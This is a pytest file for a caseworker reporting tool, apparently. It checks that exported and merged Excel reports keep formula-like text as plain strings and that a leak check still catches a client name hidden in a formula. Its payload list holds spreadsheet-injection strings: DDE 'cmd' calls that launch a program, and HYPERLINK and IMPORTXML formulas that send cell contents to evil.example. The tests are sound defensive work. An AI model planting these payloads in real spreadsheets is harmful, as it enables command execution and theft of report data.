"""Text that looks like a formula stays text: in the exported monthly report, through the
leak check and through the coordinating office's merge (formula/CSV injection, OWASP)."""

from __future__ import annotations

import argparse
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kimdesk.caseload import Caseload
from kimdesk.report import export_month
from kimdesk.report.merge import merge_reports, read_report, write_merged
from kimdesk.report.merge_cli import EXPORT_PASSWORD_ENV, cmd_merge_reports
from kimdesk.report.xlsx import save_to_bytes
from tests.unit.test_report_export import build_known
from tests.unit.test_report_merge import build_report

# The OWASP CSV-injection payloads, a few variants, and openpyxl's error-code strings.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "'=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "=1+1 trailing ",
    "#N/A",
    "#DIV/0!",
)
ORGANISATION = '=HYPERLINK("http://evil.example","Caritas")'
MUNICIPALITY = "@SUM(1+9)*cmd|' /C calc'!A0"
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
CHART_RANGE = re.compile(rb"<(?:\w+:)?f>'[^'<>]+'!\$[A-Z]{1,3}\$\d+:\$[A-Z]{1,3}\$\d+</(?:\w+:)?f>")


def add_gaps(caseload: Caseload, case_id: int, texts: tuple[str, ...]) -> None:
    measures = [
        {"measure": "Übergangslösung", "alternative_route": True, "gap_domain": "housing"}
        | {"gap_description": text}
        for text in texts
    ]
    caseload.save_form(
        case_id, "needs_plan", {"date": "2026-11-14", "measures": measures}, final=False
    )


@pytest.fixture
def hostile(caseload: Caseload) -> Caseload:
    """The known caseload, plus formula-like gap texts and profile entries."""
    ids = build_known(caseload)
    add_gaps(caseload, ids["eritrean"], PAYLOADS)
    profile = caseload.profile()
    caseload.update_profile(
        replace(profile, organisation=ORGANISATION, municipality=MUNICIPALITY)
    )
    return caseload


def assert_no_formulas(data: bytes) -> None:
    """No formula anywhere; a chart's data may only be a plain range of a sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".xml"):
                part = package.read(name)
                if name.startswith("xl/charts/"):
                    part = CHART_RANGE.sub(b"", part)
                assert not FORMULA_ELEMENT.search(part), name


def test_the_shared_writer_stores_every_text_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = PAYLOADS[0]
    sheet.cell(2, 1, PAYLOADS[1])
    for text in PAYLOADS:
        sheet.append([None, text, 3])
    hidden = book.create_sheet("_hidden")
    hidden.sheet_state = "hidden"
    hidden.append(["key", "=cmd|' /C calc'!A0"])

    data = save_to_bytes(book)

    assert_no_formulas(data)
    read = load_workbook(io.BytesIO(data))
    assert [c.value for c in read.active["B"][2:]] == list(PAYLOADS)
    assert {c.data_type for c in read.active["B"][2:]} == {"s"}
    assert read.active["C3"].value == 3 and read.active["C3"].data_type == "n"
    assert read["_hidden"]["B1"].value == "=cmd|' /C calc'!A0"
    assert read["_hidden"]["B1"].data_type == "s"


def test_formula_like_gap_texts_are_exported_as_text(hostile: Caseload, tmp_path: Path) -> None:
    # The leak check runs inside the export: none of these texts names a client.
    result = export_month(hostile, "2026-11", tmp_path / "bericht.xlsx", code="EB")
    assert result.rows["gaps"] == 1 + len(PAYLOADS)
    data = result.path.read_bytes()
    assert_no_formulas(data)

    book = load_workbook(io.BytesIO(data))
    gaps = [row[1] for row in book["Angebotslücken"].iter_rows(min_row=2, max_col=2)]
    written = {cell.value: cell for cell in gaps}
    for text in PAYLOADS:
        assert text in written, repr(text)
        assert written[text].data_type == "s", repr(text)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
    overview = {row[0].value: row[1] for row in book["Übersicht"].iter_rows(max_col=2)}
    assert overview["Träger"].value == ORGANISATION
    assert overview["Kommune/Kreis"].value == MUNICIPALITY
    meta = {row[0].value: row[1] for row in book["_kimdesk"].iter_rows(max_col=2)}
    assert meta["organisation"].value == ORGANISATION and meta["organisation"].data_type == "s"
    assert meta["municipality"].value == MUNICIPALITY


def test_the_merge_carries_formula_like_texts_through(
    hostile: Caseload, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(EXPORT_PASSWORD_ENV, raising=False)
    plain = export_month(hostile, "2026-11", tmp_path / "eb.xlsx", code="EB").path
    locked = export_month(
        hostile, "2026-11", tmp_path / "ak.xlsx", code="AK", password="Quarz-Pelikan-Nebel-58"
    ).path
    read = read_report(plain)
    assert [gap.description for gap in read.gaps][-len(PAYLOADS) :] == list(PAYLOADS)
    assert read.organisation == ORGANISATION and read.municipality == MUNICIPALITY

    passwords = tmp_path / "passwoerter.txt"
    passwords.write_text("Quarz-Pelikan-Nebel-58\n", encoding="utf-8")
    out = tmp_path / "bezirk.xlsx"
    args = argparse.Namespace(files=[plain, locked], out=out, password_file=passwords)
    assert cmd_merge_reports(args) == 0

    data = out.read_bytes()
    assert_no_formulas(data)
    book = load_workbook(io.BytesIO(data))
    rows = list(book["Angebotslücken"].iter_rows(min_row=2))
    for code in ("AK", "EB"):
        texts = [row[2].value for row in rows if row[0].value == code]
        assert texts[-len(PAYLOADS) :] == list(PAYLOADS), code
    assert {row[2].data_type for row in rows} == {"s"}
    managers = list(book["Case Manager"].iter_rows(min_row=2))
    assert {row[2].value for row in managers} == {ORGANISATION}
    assert {row[3].value for row in managers} == {MUNICIPALITY}
    assert {row[c].data_type for row in managers for c in (2, 3)} == {"s"}


def test_the_leak_check_still_stops_a_name_behind_a_formula(
    caseload: Caseload, tmp_path: Path
) -> None:
    from kimdesk.report import ReportLeak

    ids = build_known(caseload)
    add_gaps(caseload, ids["eritrean"], ('=HYPERLINK("http://x.example","Kowalczyk")',))
    with pytest.raises(ReportLeak):
        export_month(caseload, "2026-11", tmp_path / "bericht.xlsx")
    assert not (tmp_path / "bericht.xlsx").exists()



def test_formulas_in_reports_of_older_versions_come_back_as_their_text(tmp_path: Path) -> None:
    # Written with openpyxl's defaults, as kimdesk did before: "=…" became a formula.
    old = build_report(gaps=tuple(("Wohnen", text, "P-0001") for text in PAYLOADS))
    with zipfile.ZipFile(io.BytesIO(old)) as package:
        assert any(FORMULA_ELEMENT.search(package.read(n)) for n in package.namelist())
    path = tmp_path / "alt.xlsx"
    path.write_bytes(old)

    report = read_report(path)

    assert [gap.description for gap in report.gaps] == list(PAYLOADS)
    merged = write_merged(merge_reports([report]))
    assert_no_formulas(merged)
    rows = list(load_workbook(io.BytesIO(merged))["Angebotslücken"].iter_rows(min_row=2))
    assert [row[2].value for row in rows] == list(PAYLOADS)
    assert {row[2].data_type for row in rows} == {"s"}
